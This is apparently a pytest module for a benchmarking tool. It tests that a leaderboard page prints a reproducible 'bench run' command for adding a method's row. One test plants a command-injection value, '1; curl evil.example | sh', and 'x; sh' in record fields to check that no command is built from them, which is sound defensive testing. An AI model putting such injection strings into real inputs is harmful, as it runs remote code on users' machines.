"""How do I add my row?: the command on a board's page makes a row of another method that joins the
table.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from commands import SMALL, bench
from factories import with_fingerprint
from made_runs import made_run, made_runs
from msgspec.structs import replace
from published import publish
from test_repeat import words_after

from bench.board.board import Board, build_board
from bench.board.command_words import NOT_REPEATABLE
from bench.board.repeat import new_row
from bench.compare.footnotes import terms
from bench.records import Code, HowExecuted, RecipeValue, RunRecord, RunsFolder
from bench.records.run import Run
from bench.show.pages.board import render_board
from bench.show.pages.new_row import add_row

ASKED = (
    *("--backbone", "builtin", "--corpus", "builtin", "--suite", "check"),
    *("--budget", "12steps", "--precision", "fp32", *SMALL),
)


@pytest.fixture
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BENCH_CACHE", str(tmp_path / "cache"))


def board_of(runs: Path) -> Board:
    records, _ = RunsFolder(runs).records()
    found = [Run(record, runs / record.run_id) for record in records]
    return build_board(found, version="v1", title="Made")


def plan_of(*words: str) -> list[dict[str, Any]]:
    """Every run of a command, as ``--dry-run --json`` prints it."""
    done = bench("run", *words, "--dry-run", "--json", "--runs", "nowhere")
    assert done.exit_code == 0, done.output
    return [json.loads(line) for line in done.stdout.splitlines()]


def as_planned(runs: Path, planned: dict[str, Any]) -> RunRecord:
    """Make a finished run of a plan, with the plan's recipe and sources, and made-up scores."""
    training = {"steps": 12, "sentences": 96}
    made = made_run(
        runs, planned["method"], planned["seed"], suites=("check",), noise=len(planned["method"])
    )
    recipe = {key: RecipeValue(**value) for key, value in planned["recipe"].items()}
    origin = replace(
        made.provenance,
        determines={"precision": planned["precision"], "places": {}},
        corpus=replace(made.provenance.corpus, name="builtin", sha256="c" * 64),
    )
    assert made.training is not None
    changed = with_fingerprint(
        replace(made, recipe=recipe, provenance=origin, training=replace(made.training, **training))
    )
    shutil.move(runs / made.run_id, runs / changed.run_id)
    RunsFolder(runs).write(changed)
    return changed


def commands_on(page: str) -> list[str]:
    found = re.findall(r"<pre[^>]*>(.*?)</pre>", page)
    return [unescape(text) for text in found if text.startswith("bench run")]


@pytest.mark.slow(seconds=8)
@pytest.mark.usefixtures("own_cache", "short_check")
def test_a_run_by_the_printed_command_joins_the_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    runs = tmp_path / "runs"
    rows = plan_of("simcse", "esimcse", *ASKED, "--seeds", "1,2,5")
    for planned in rows:
        as_planned(runs, planned)
    before = board_of(runs)
    printed = add_row(before)
    assert printed in commands_on(render_board(before))
    words = shlex.split(printed)
    assert words[:4] == ["bench", "run", "--method", "NAME"]
    assert words_after(printed, "--budget") == ["12steps"]

    def planned_again(method: str) -> list[dict[str, Any]]:
        return plan_of(*(method if word == "NAME" else word for word in words[2:]))

    for method in ("simcse", "esimcse"):
        mine = [planned for planned in rows if planned["method"] == method]
        again = planned_again(method)
        for one, other in zip(mine, again, strict=True):
            values = {key: value["value"] for key, value in one["recipe"].items()}
            assert values == {key: value["value"] for key, value in other["recipe"].items()}
            for key in ("seed", "corpus", "precision", "tasks", "setting", "backbone", "protocols"):
                assert one[key] == other[key]
    for planned in planned_again("ct"):
        as_planned(runs, planned)
    after = board_of(runs)
    (shown,) = after.tables
    assert len(shown.table.rows) == len(before.tables[0].table.rows) + 1 == 3
    steps = {row.method: terms(after.records[row.runs[0]])["steps"] for row in shown.table.rows}
    assert len(set(steps.values())) == 1
    noted = {note.setting for note in shown.table.footnotes}
    assert not noted & {"steps", "batch_size", "select_on", "precision", "corpus"}, noted


def test_one_run_with_another_suite_does_not_change_the_command(tmp_path: Path) -> None:
    made_runs(tmp_path, {"simcse": 0.8, "promcse": 0.4}, seeds=(1, 2, 3), suites=("check",))
    before = add_row(board_of(tmp_path))
    assert words_after(before, "--suite") == ["check"] and words_after(before, "--seeds") == ["1-3"]
    made_run(tmp_path, "consert", 1, suites=("check", "fewshot"))
    assert add_row(board_of(tmp_path)) == before


def test_values_of_a_method_or_a_search_are_not_in_the_command(tmp_path: Path) -> None:
    (one, other), _ = RunsFolder(runs_of_two(tmp_path)).records()
    given = {
        "budget": RecipeValue(value="157steps", source="--budget 157steps"),
        "max_steps": RecipeValue(value=100, source="search s, 6 trials: as its trials had it"),
        "temperature": RecipeValue(value=0.07, source="--set"),
    }
    tuned = {"weight_decay": RecipeValue(value=0.1, source="search s, 6 trials, dev 60")}
    how = HowExecuted(recipe_file=("max_steps", "weight_decay"))
    records = [
        replace(
            record,
            recipe={**record.recipe, **given, **tuned},
            provenance=replace(record.provenance, execution=how),
        )
        for record in (one, other)
    ]
    made = new_row([[record] for record in records], [records[0]])
    assert words_after(made, "--budget") == ["157steps"]
    assert words_after(made, "--set") == ["max_steps=100"]
    plain = replace(records[1], recipe={**one.recipe, "budget": given["budget"]})
    half = new_row([[records[0]], [plain]], [records[0]])
    assert words_after(half, "--set") == [] and words_after(half, "--budget") == ["157steps"]


def test_a_hostile_record_composes_no_command(tmp_path: Path) -> None:
    (one, other), _ = RunsFolder(runs_of_two(tmp_path)).records()
    evil = {"budget": RecipeValue(value="1; curl evil.example | sh", source="--budget 1")}
    bad = replace(one, recipe={**one.recipe, **evil})
    assert new_row([[bad]], [bad]) == NOT_REPEATABLE
    assert "curl" not in new_row([[bad], [other], [other]], [other])
    foreign = replace(one, backbone="x; sh", provenance=replace(one.provenance))
    assert new_row([[foreign]], [foreign]) == NOT_REPEATABLE


def test_models_that_are_only_evaluated_get_the_verb_for_models(tmp_path: Path) -> None:
    (one, _), _ = RunsFolder(runs_of_two(tmp_path)).records()
    origin = replace(one.provenance, plugin=Code(package="bench"))
    model = replace(one, method="object", setting="none", training=None, provenance=origin)
    assert new_row([[model]], [model]) == "bench evaluate MODEL --suite check"


def runs_of_two(runs: Path) -> Path:
    made_runs(runs, {"simcse": 0.8, "promcse": 0.4}, seeds=(1,), suites=("check",))
    return runs


@pytest.mark.nightly
@pytest.mark.slow(seconds=20)
@pytest.mark.usefixtures("own_cache", "short_check")
def test_the_command_of_a_published_page_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    asked = [*ASKED, "--seeds", "1,2", "--set", "select_on=last", "--plain"]
    done = bench("run", "simcse", *asked, "--runs", "runs")
    assert done.exit_code == 0, done.output
    page = (publish(Path("runs"), Path("first")) / "index.html").read_text(encoding="utf-8")
    (command,) = [text for text in commands_on(page) if "NAME" in text]
    words = shlex.split(command.replace("NAME", "ct"))
    done = bench(*words[1:], "--runs", "runs", "--plain")
    assert done.exit_code == 0, done.output
    (shown,) = board_of(Path("runs")).tables
    assert {row.method for row in shown.table.rows} == {"simcse", "ct"}
    assert not {note.setting for note in shown.table.footnotes} & {"steps", "batch_size"}
